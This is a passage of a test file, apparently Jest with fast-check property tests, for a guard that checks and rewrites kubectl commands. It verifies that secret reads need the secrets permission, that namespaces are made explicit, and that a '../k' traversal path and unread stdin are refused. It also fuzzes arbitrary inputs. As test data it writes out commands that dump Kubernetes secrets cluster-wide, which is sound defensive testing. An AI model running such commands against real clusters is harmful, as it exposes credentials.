    expect(refusal(() => call('kubectl create -f ../k', files))).toMatchObject({ word: '../k' });
  });

  test('reads of secrets need secrets, by every door', () => {
    for (const command of [
      'get secret x -o yaml',
      'describe secret x',
      'describe sa x',
      'set env deploy/x --list --resolve',
      'get secrets -A -o json',
      'get pods,secrets',
    ]) {
      expect(asked(call(`kubectl ${command}`)).some((line) => /^(get|list) secrets/u.test(line))).toBe(true);
    }
  });

  test('the namespace is explicit in every command that has not all of them', () => {
    expect(call('kubectl get pods').sent.words).toContain('--namespace=shop');
    expect(call('kubectl get pods -n a -n b').sent.words.filter((word) => word.startsWith('--namespace'))).toEqual([
      '--namespace=b',
    ]);
    expect(asked(call('kubectl get pods -n aks-command'))).toEqual(['list pods in aks-command']);
  });

  test('stdin that the command does not read is refused', () => {
    expect(refusal(() => call('kubectl get pods', {}, 'x'))).toMatchObject({ word: 'stdin' });
  });
});

describe('whatever comes', () => {
  const word = fc.oneof(
    fc.constantFrom(...[...verbs.keys()].flatMap((path) => path.split(' '))),
    fc.constantFrom(
      'pods',
      'deploy/web',
      'all',
      'secrets',
      'x',
      '-',
      '--',
      '-A',
      '-n',
      '-f',
      '-l',
      '-o',
      'yaml',
      'app=web',
      'node-1',
      'a-',
      '*',
    ),
    fc.constantFrom(...[...verbs.values()].flatMap(({ flags }) => Object.keys(flags).map((name) => `--${name}`))),
    fc
      .tuple(
        fc.constantFrom('--output', '--namespace', '--from-file', '--timeout', '--patch', '--type', '-v'),
        fc.string(),
      )
      .map(([flag, value]) => `${flag}=${value}`),
    fc.string(),
    fc.string({ unit: 'binary' }),
  );
  const yaml = fc.oneof(
    fc.json(),
    fc.string({ unit: 'binary' }),
    fc
      .array(
        fc.constantFrom(
          'a: 1',
          '  b: &x {c: d}',
          '- *x',
          '<<: *x',
          '---',
          '...',
          '"',
          'kind: Pod',
          'apiVersion: v1',
          'metadata: {name: a}',
          '? [',
          '!!set {}',
          '\t',
          '|',
          '  text',
          '{',
          ']',
        ),
      )
      .map((lines) => lines.join('\n')),
  );
  const request = fc.record({
    argv: fc.array(word, { maxLength: 8 }).map((words) => ['kubectl', ...words]),
    files: fc.array(
      fc.record({
        path: fc.constantFrom('a.yaml', 'b/c.json', '-'),
        bytes: yaml.map((text) => new TextEncoder().encode(text)),
      }),
      { maxLength: 2 },
    ),
    stdin: fc.option(yaml, { nil: undefined }),
  });

  test('interpret gives an invocation or throws a problem that names the word', () => {
    fc.assert(
      fc.property(request, (one) => {
        try {
          interpret(one, context);
        } catch (error) {
          if (!(error instanceof Problem)) throw error;
          expect(error.code).toBe('command-refused');
          expect(error.options.members).toHaveProperty('word');
        }
      }),
      { numRuns: 400 },
    );
  });

  test('manifests give an invocation or a problem', () => {
    fc.assert(
      fc.property(yaml, fc.constantFrom('apply', 'create', 'delete', 'get'), (text, verb) => {
        try {
          call(`kubectl ${verb} -f x.yaml`, { 'x.yaml': text });
        } catch (error) {
          if (!(error instanceof Problem)) throw error;
        }
      }),
      { numRuns: 400 },
    );
  });

  test('no word goes out that is neither ours nor a parsed value', () => {
    // A marker in every place where a caller may write: in what goes out it stands only behind a flag that was parsed.
    const marker = fc.stringMatching(/^[a-z]{6,8}zq$/u);
    fc.assert(
      fc.property(marker, marker, marker, (name, value, flagValue) => {
        const { sent } = call(
          `kubectl get pods ${name} -l ${value} -n ${flagValue.slice(0, 8)}`.replace(` ${name} -l`, ' -l'),
        );
        expect(sent.words).toEqual([
          'kubectl',
          'get',
          'pods.v1.',
          `--selector=${value}`,
          `--namespace=${flagValue.slice(0, 8)}`,
        ]);
      }),
    );
  });
});
